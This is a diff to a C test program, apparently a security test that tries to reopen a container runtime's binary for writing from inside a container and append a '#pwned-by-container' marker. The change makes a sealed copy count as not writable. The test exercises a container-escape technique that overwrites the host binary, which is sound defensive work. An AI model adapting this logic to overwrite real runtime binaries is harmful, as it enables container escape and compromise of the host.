@@ -4,7 +4,8 @@
  * fd for writing until the runtime has exited (while it runs, the kernel says ETXTBSY), then
  * appends a marker. It prints what it managed, one line per event:
  *   held PID          it got an fd of a process's exe of that size
- *   wrote N           it appended N bytes: the binary was reachable for writing
+ *   wrote N           it appended N bytes: the binary was reachable for writing (a sealed copy
+ *                     opens for writing but takes no byte, and does not count)
  *   gave-up           nothing writable within the time
  * usage: ocelot-ptrace-attacker SIZE SECONDS */
 #define _GNU_SOURCE
@@ -65,8 +66,12 @@ int main(int argc, char** argv) {
       int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
       if (w < 0) continue;
       ssize_t n = write(w, "\n#pwned-by-container\n", 21);
-      printf("wrote %zd\n", n);
-      return 0;
+      close(w);
+      if (n > 0) {
+        printf("wrote %zd\n", n);
+        return 0;
+      }
+      /* A sealed copy opens for writing but refuses every write: not a way in. */
     }
     usleep(200);
   }
